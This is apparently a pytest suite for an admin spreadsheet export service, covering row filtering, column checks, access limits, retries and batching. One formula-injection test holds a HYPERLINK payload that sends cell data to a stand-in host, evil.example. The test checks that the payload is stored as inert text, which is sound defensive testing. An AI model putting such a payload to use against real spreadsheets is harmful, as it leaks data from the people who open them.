"""Exports of the admin lists: exactly the rows the list's filter finds in
its order, exactly the columns chosen, built by the worker in batches, read
only by the staff member who asked."""

from __future__ import annotations

import io
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import delete, insert, select
from sqlalchemy.orm import Session

from relief.authority import service as authority
from relief.exports import rules
from relief.exports import service as exports
from relief.kit.clock import now
from relief.models import AuditEntry, ExportJob, StaffUserRole, Task
from relief.settings import service as runtime
from relief.worker.runner import run_one_task
from tests.authority.test_every_staff_call import sign_in_staff
from tests.booking_helpers import drain, worker_sessions
from tests.factories import call, make_staff


def ok(answer: dict[str, Any]) -> Any:
    assert answer["rtn_code"] == 0, answer
    return answer["rtn_data"]


def refusal(answer: dict[str, Any]) -> tuple[int, int]:
    return answer["rtn_code"], answer["rtn_data"]["code"]


def log(db: Session, call_path: str, count: int, **fields: Any) -> None:
    """`count` audit entries of one call, a second apart, the newest last."""
    start = now() - timedelta(days=1)
    db.execute(
        insert(AuditEntry),
        [
            {
                "at": start + timedelta(seconds=n),
                "call": call_path,
                "permission": "setting:edit",
                "changes": "[]",
                "address": "203.0.113.7",
                "duration_ms": n % 500,
                "rtn_code": 0 if n % 3 else 1000,
                **fields,
            }
            for n in range(count)
        ],
    )
    db.commit()


def download(client: TestClient, job_id: int, token: str) -> Any:
    response = client.get(
        f"/api/admin/export/file/{job_id}", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content)).active


def values(sheet: Any) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_exactly_the_filtered_rows_and_the_chosen_columns(client: TestClient, db: Session) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    log(db, "/admin/setting/update", 7)
    log(db, "/admin/dictionary/other", 3)
    body = {"call": "setting/update", "result": "success", "sort": "durationMs,desc"}
    listed = ok(call(client, "/admin/audit/list", {**body, "pageSize": 100}, token=admin))
    columns = [
        {"key": "call", "title": "What"},
        {"key": "durationMs", "title": "Duration (ms)"},
        {"key": "id", "title": "Entry"},
    ]
    job = ok(call(client, "/admin/audit/export", {**body, "columns": columns}, token=admin))
    assert (job["status"], job["done"], job["total"], job["list"]) == ("queued", 0, 0, "audit")
    assert job["fileName"].startswith("Operation log ")
    assert job["fileName"].endswith(".xlsx")
    # Not ready yet: the file is refused, saying so.
    early = client.get(
        f"/api/admin/export/file/{job['id']}", headers={"Authorization": f"Bearer {admin}"}
    ).json()
    assert refusal(early) == (1004, 42904)

    drain(db)
    done = ok(call(client, "/admin/export/status", {"id": job["id"]}, token=admin))
    assert (done["status"], done["done"], done["total"]) == ("ready", 4, 4)
    assert listed["total"] == 4
    assert values(download(client, job["id"], admin)) == [
        ["What", "Duration (ms)", "Entry"],
        *[[item["call"], item["durationMs"], item["id"]] for item in listed["list"]],
    ]
    # Who exported what is in the audit log.
    kept = db.scalars(select(AuditEntry).where(AuditEntry.call == "/admin/audit/export")).all()
    assert [(entry.permission, entry.target_table) for entry in kept] == [
        ("audit:list", "export_jobs")
    ]


def test_a_text_that_would_run_as_a_formula_is_written_as_text(
    client: TestClient, db: Session
) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    sneaky = make_staff(db, role="Auditor")
    sneaky.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    db.commit()
    columns = [{"key": "name", "title": "Name"}, {"key": "roles", "title": "Roles"}]
    job = ok(
        call(client, "/admin/staff/export", {"keyword": "evil", "columns": columns}, token=admin)
    )
    drain(db)
    sheet = download(client, job["id"], admin)
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (sneaky.name, "s", True)
    assert sheet["B2"].value == "Auditor"
    assert sheet.max_row == 2


def test_bad_columns_and_sorts_are_refused_and_nothing_is_queued(
    client: TestClient, db: Session
) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    name = [{"key": "name", "title": "Name"}]
    call_column = [{"key": "call", "title": "Call"}]
    cases = [
        ("/admin/staff/export", {"columns": [{"key": "passwordHash", "title": "x"}]}, 42901),
        ("/admin/staff/export", {"columns": name * 2}, 42902),
        ("/admin/staff/export", {"columns": name, "sort": "password,asc"}, 1018),
        ("/admin/staff/export", {"columns": name, "sort": "name,sideways"}, 1018),
        (
            "/admin/audit/export",
            {"columns": call_column, "dateFrom": "2026-05-02", "dateTo": "2026-05-01"},
            42702,
        ),
        ("/admin/audit/export", {"columns": name}, 42901),
        ("/admin/session/export", {"columns": []}, 1012),
        ("/admin/session/export", {}, 1011),
    ]
    for path, body, code in cases:
        answer = call(client, path, body, token=admin)
        assert (answer["rtn_code"], answer["rtn_data"]["code"]) == (1000, code), (path, answer)
    assert db.scalars(select(ExportJob)).all() == []
    sorted_wrong = call(client, "/admin/message/list", {"sort": "author,asc"}, token=admin)
    assert sorted_wrong["rtn_data"] == {
        "code": 1018,
        "field": "sort",
        "values": {"fields": "createdAt, delivered, publishedAt, status, subject"},
    }


def test_only_the_staff_member_who_asked_reads_the_export(client: TestClient, db: Session) -> None:
    owner_user = make_staff(db, role="Auditor")
    owner = sign_in_staff(client, owner_user.email)
    other = sign_in_staff(client, make_staff(db).email)
    columns = [{"key": "email", "title": "E-mail"}]
    job = ok(call(client, "/admin/session/export", {"columns": columns}, token=owner))
    drain(db)
    assert ok(call(client, "/admin/export/status", {"id": job["id"]}, token=owner))["total"] >= 2
    # Even a super administrator is answered as if it did not exist.
    assert refusal(call(client, "/admin/export/status", {"id": job["id"]}, token=other)) == (
        1003,
        42903,
    )
    stranger = client.get(
        f"/api/admin/export/file/{job['id']}", headers={"Authorization": f"Bearer {other}"}
    ).json()
    assert refusal(stranger) == (1003, 42903)
    # The owner who no longer holds the list's permission reads it no more.
    db.execute(delete(StaffUserRole).where(StaffUserRole.user_id == owner_user.id))
    authority.grant_named(db, owner_user.id, "Content")
    db.commit()
    assert refusal(call(client, "/admin/export/status", {"id": job["id"]}, token=owner)) == (
        1002,
        42601,
    )


def test_a_failing_step_is_retried_then_parked_and_the_export_says_failed(
    client: TestClient, db: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    runtime.put(db, "task_max_attempts", 2)
    columns = [{"key": "subject", "title": "Subject"}]
    job = ok(call(client, "/admin/message/export", {"columns": columns}, token=admin))

    def broken(*args: Any) -> None:
        raise RuntimeError("the row source tripped")

    monkeypatch.setattr(exports, "_write", broken)
    sessions = worker_sessions(db)
    assert run_one_task(sessions)  # placed (no message: total 0)
    stuck = db.scalars(select(Task).where(Task.kind == exports.BUILD, Task.done_at.is_(None))).one()
    # An empty list goes straight to its workbook; make it write instead.
    row = db.get(ExportJob, job["id"])
    assert row is not None
    row.total = 1
    db.commit()
    assert run_one_task(sessions)
    db.refresh(stuck)
    assert (stuck.attempts, stuck.failed_at) == (1, None)
    status = ok(call(client, "/admin/export/status", {"id": job["id"]}, token=admin))
    assert status["status"] == "running"
    stuck.due_at = now() - timedelta(seconds=1)
    db.commit()
    assert run_one_task(sessions)
    db.refresh(stuck)
    assert stuck.failed_at is not None
    status = ok(call(client, "/admin/export/status", {"id": job["id"]}, token=admin))
    assert status["status"] == "failed"
    # Staff retry the parked task once the fault is gone; the export finishes.
    monkeypatch.undo()
    row.total = 0
    db.commit()
    ok(call(client, "/admin/task/retry", {"taskId": stuck.id}, token=admin))
    drain(db)
    # (The worker changed the row behind this test's session.)
    db.refresh(row)
    status = ok(call(client, "/admin/export/status", {"id": job["id"]}, token=admin))
    assert status["status"] == "ready"
    assert values(download(client, job["id"], admin)) == [["Subject"]]


def test_ten_thousand_rows_are_written_a_batch_at_a_time(client: TestClient, db: Session) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    log(db, "/admin/bulk/change", 10_000)
    columns = [{"key": "id", "title": "Id"}, {"key": "at", "title": "When"}]
    body = {"call": "/admin/bulk/change", "sort": "at,asc", "columns": columns}
    job = ok(call(client, "/admin/audit/export", body, token=admin))
    sessions = worker_sessions(db)
    seen: list[tuple[str, int, int]] = []
    while True:
        assert run_one_task(sessions)
        status = ok(call(client, "/admin/export/status", {"id": job["id"]}, token=admin))
        seen.append((status["status"], status["done"], status["total"]))
        if status["status"] == "ready":
            break
    batches = 10_000 // rules.BATCH
    assert seen == [
        ("running", 0, 10_000),
        *[("running", rules.BATCH * n, 10_000) for n in range(1, batches + 1)],
        ("ready", 10_000, 10_000),
    ]
    sheet = download(client, job["id"], admin)
    rows = values(sheet)
    assert len(rows) == 10_001
    ids = [row[0] for row in rows[1:]]
    expected = db.scalars(
        select(AuditEntry.id).where(AuditEntry.call == "/admin/bulk/change").order_by(AuditEntry.at)
    ).all()
    assert ids == list(expected)
    # What the export kept in the making is gone; only the file stays.
    finished = db.get(ExportJob, job["id"])
    assert finished is not None
    db.refresh(finished)
    assert finished.finished_at is not None


def test_an_export_is_forgotten_after_its_days(client: TestClient, db: Session) -> None:
    admin = sign_in_staff(client, make_staff(db).email)
    job = ok(
        call(
            client,
            "/admin/staff/export",
            {"columns": [{"key": "email", "title": "E-mail"}]},
            token=admin,
        )
    )
    drain(db)
    forget = db.scalars(
        select(Task).where(Task.kind == exports.FORGET, Task.ref_id == job["id"])
    ).one()
    forget.due_at = now() - timedelta(seconds=1)
    db.commit()
    drain(db)
    assert db.get(ExportJob, job["id"]) is None
    assert refusal(call(client, "/admin/export/status", {"id": job["id"]}, token=admin)) == (
        1003,
        42903,
    )
